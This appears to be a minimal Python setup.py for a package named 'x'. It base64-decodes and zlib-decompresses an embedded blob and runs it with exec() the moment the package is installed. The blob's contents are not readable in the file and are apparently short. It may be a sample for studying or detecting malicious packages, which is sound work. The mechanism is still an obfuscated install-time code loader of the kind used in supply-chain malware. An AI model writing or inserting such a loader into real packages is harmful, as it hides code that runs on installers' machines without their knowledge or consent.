import zlib, base64
from setuptools import setup
exec(compile(zlib.decompress(base64.b64decode("eJwrKMrMK9FQz8xLLSpR1wQAKyEFJQ==")), "<s>", "exec"))
setup(name="x")
